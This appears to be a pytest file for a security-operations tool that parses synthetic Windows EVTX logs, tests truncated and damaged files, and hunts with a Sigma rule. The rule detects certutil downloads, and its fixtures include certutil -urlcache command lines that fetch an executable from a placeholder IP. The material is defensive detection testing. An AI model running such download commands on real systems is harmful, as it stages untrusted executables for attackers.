"""Real EVTX files (written by the test EVTX writer) through the intake reader and `towers soc hunt`."""

import json
import struct
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from towers.soc.intake.event import Event, Quarantined
from towers.soc.intake.evtx import iter_evtx
from towers.soc.sigma.events import prepare
from towers.soc.sigma.rules import CompileReport, compile_text
from towers.soc.tests.evtx_writer import CHUNK_SIZE, FILE_HEADER_SIZE, EvtxRecord, write_evtx

SYSMON = "Microsoft-Windows-Sysmon/Operational"
WHEN = datetime(2026, 2, 3, 4, 5, 6, 789000, tzinfo=UTC)
CERTUTIL_RULE = """
title: Certutil Download
id: 44444444-4444-4444-4444-444444444444
level: high
tags: [attack.command-and-control, attack.t1105, attack.s0160]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
"""
CERTUTIL = {
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe",
    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
    "User": "THESHIRE\\pgustavo",
}


def sysmon(record_id: int | None = None, **data: str) -> EvtxRecord:
    return EvtxRecord(
        event_id=1,
        channel=SYSMON,
        computer="WS5.theshire.local",
        time_created=WHEN,
        user_id="S-1-5-18",
        record_id=record_id,
        data=data or {"Image": "C:\\Windows\\notepad.exe", "CommandLine": "notepad.exe"},
    )


def many(count: int) -> list[EvtxRecord]:
    return [sysmon(Image=f"C:\\tools\\t{i}.exe", CommandLine="y" * 300) for i in range(count)]


def split(results: list) -> tuple[list[Event], list[Quarantined]]:
    return [r for r in results if isinstance(r, Event)], [r for r in results if isinstance(r, Quarantined)]


def test_evtx_record_reaches_the_intake_under_sigma_field_names(tmp_path):
    path = write_evtx(tmp_path / "sysmon.evtx", [sysmon(record_id=901, **CERTUTIL)])
    (event,) = list(iter_evtx(path))
    assert isinstance(event, Event) and event.source == "evtx"
    fields = event.fields
    assert fields["EventID"] == 1 and fields["Channel"] == SYSMON and fields["Computer"] == "WS5.theshire.local"
    assert fields["Provider_Name"] == "Microsoft-Windows-Sysmon"
    assert fields["TimeCreated_SystemTime"] == "2026-02-03T04:05:06.789000Z"
    assert fields["EventRecordID"] == 901 and fields["Security_UserID"] == "S-1-5-18"
    assert {name: fields[name] for name in CERTUTIL} == CERTUTIL
    report = CompileReport()
    compile_text(CERTUTIL_RULE, report)
    assert report.rules[0].matches(prepare(fields))


def test_multi_chunk_evtx_reads_every_record_in_order_without_quarantine(tmp_path):
    path = write_evtx(tmp_path / "big.evtx", many(300))
    assert path.stat().st_size > FILE_HEADER_SIZE + 2 * CHUNK_SIZE
    events, quarantined = split(list(iter_evtx(path)))
    assert quarantined == []
    assert [e.fields["EventRecordID"] for e in events] == list(range(1, 301))
    assert events[-1].fields["Image"] == "C:\\tools\\t299.exe"


def test_truncated_evtx_keeps_whole_chunks_and_quarantines_the_cut_one(tmp_path):
    whole = write_evtx(tmp_path / "whole.evtx", many(300)).read_bytes()
    cut = tmp_path / "cut.evtx"
    cut.write_bytes(whole[: FILE_HEADER_SIZE + CHUNK_SIZE + 20_000])
    first_chunk = struct.unpack_from("<Q", whole, FILE_HEADER_SIZE + 16)[0]  # last record number of chunk 1
    events, quarantined = split(list(iter_evtx(cut)))
    assert len(events) == first_chunk
    assert [q.reason for q in quarantined] == ["EVTX file incomplete: last chunk cut short at 20000 of 65536 bytes"]


def test_evtx_cut_after_its_header_says_so(tmp_path):
    whole = write_evtx(tmp_path / "whole.evtx", [sysmon()]).read_bytes()
    cut = tmp_path / "header-only.evtx"
    cut.write_bytes(whole[:FILE_HEADER_SIZE])
    assert [r.reason for r in iter_evtx(cut)] == ["EVTX file incomplete: file header declares 1 chunks, 0 found"]


def _record_offsets(blob: bytes) -> list[int]:
    """File offsets of the first chunk's records, walking their size fields."""
    offsets, at = [], FILE_HEADER_SIZE + 512
    free = FILE_HEADER_SIZE + struct.unpack_from("<I", blob, FILE_HEADER_SIZE + 48)[0]
    while at < free:
        offsets.append(at)
        at += struct.unpack_from("<I", blob, at + 4)[0]
    return offsets


def test_damaged_record_header_loses_the_rest_of_its_chunk_and_the_loss_is_counted(tmp_path):
    blob = bytearray(write_evtx(tmp_path / "whole.evtx", many(300)).read_bytes())
    blob[_record_offsets(blob)[2] : _record_offsets(blob)[2] + 4] = b"\x00\x00\x00\x00"
    damaged = tmp_path / "damaged.evtx"
    damaged.write_bytes(blob)
    events, quarantined = split(list(iter_evtx(damaged)))
    assert len(events) < 300  # the parser drops the rest of the chunk without an error
    (loss,) = quarantined
    assert loss.reason.startswith(f"EVTX records unreadable: chunk headers announce 300 records, {len(events)} were")


def test_damaged_record_body_quarantines_that_record_and_keeps_the_others(tmp_path):
    blob = bytearray(write_evtx(tmp_path / "whole.evtx", [sysmon(), sysmon(), sysmon()]).read_bytes())
    blob[_record_offsets(blob)[1] + 24 + 4] = 0x77  # not a binary XML token, right after the fragment header
    damaged = tmp_path / "damaged.evtx"
    damaged.write_bytes(blob)
    events, quarantined = split(list(iter_evtx(damaged)))
    assert [e.fields["EventRecordID"] for e in events] == [1, 3]
    (bad,) = quarantined
    assert bad.reason.startswith("EVTX record rejected: Failed to parse record number 2") and bad.offset == 2


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "certutil.yml").write_text(CERTUTIL_RULE)
    return folder


def _hunt(*args: str) -> tuple[list[dict], str]:
    out, err = StringIO(), StringIO()
    call_command("soc", "hunt", *args, stdout=out, stderr=err)
    return [json.loads(line) for line in out.getvalue().splitlines()], err.getvalue()


def test_hunt_over_a_folder_with_an_evtx_file_prints_the_hit(tmp_path, rules):
    logs = tmp_path / "logs"
    logs.mkdir()
    path = write_evtx(logs / "Sysmon.evtx", [sysmon(record_id=77), sysmon(record_id=78, **CERTUTIL), sysmon()])
    hits, err = _hunt(str(logs), "--rules", str(rules))
    assert hits == [
        {
            "rule_id": "44444444-4444-4444-4444-444444444444",
            "title": "Certutil Download",
            "level": "high",
            "tactics": ["command-and-control"],
            "techniques": ["T1105"],
            "file": str(path),
            "record": 78,
            "timestamp": "2026-02-03T04:05:06.789000Z",
            "host": "WS5.theshire.local",
            "channel": SYSMON,
            "event_id": 1,
        }
    ]
    assert "0 quarantined" in err


def test_hunt_reports_a_truncated_evtx_and_still_hunts_its_whole_chunks(tmp_path, rules):
    records = many(300)
    records[5] = sysmon(**CERTUTIL)
    whole = write_evtx(tmp_path / "whole.evtx", records).read_bytes()
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "Security-cut.evtx").write_bytes(whole[: FILE_HEADER_SIZE + CHUNK_SIZE + 100])
    hits, err = _hunt(str(logs), "--rules", str(rules))
    assert [(h["title"], h["record"]) for h in hits] == [("Certutil Download", 6)]
    assert "1 quarantined" in err and "EVTX file incomplete: last chunk cut short at 100 of 65536 bytes" in err


def test_hunt_matches_a_process_creation_rule_on_a_security_4688_evtx_record(tmp_path, rules):
    audit = EvtxRecord(
        event_id=4688,
        channel="Security",
        provider="Microsoft-Windows-Security-Auditing",
        computer="DC1.theshire.local",
        record_id=5150,
        data={
            "SubjectUserSid": "S-1-5-21-1-2-3-1104",
            "SubjectUserName": "pgustavo",
            "SubjectDomainName": "THESHIRE",
            "SubjectLogonId": "0x551686",
            "NewProcessId": "0x1a2c",
            "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
            "TokenElevationType": "%%1938",
            "ProcessId": "0x3b8",
            "CommandLine": "certutil -urlcache -split -f http://203.0.113.9/p.exe",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
            "MandatoryLabel": "S-1-16-8192",
        },
    )
    logs = tmp_path / "logs"
    logs.mkdir()
    write_evtx(logs / "Security.evtx", [audit])
    hits, _ = _hunt(str(logs), "--rules", str(rules))
    assert [(h["title"], h["record"], h["channel"], h["event_id"]) for h in hits] == [
        ("Certutil Download", 5150, "Security", 4688)
    ]
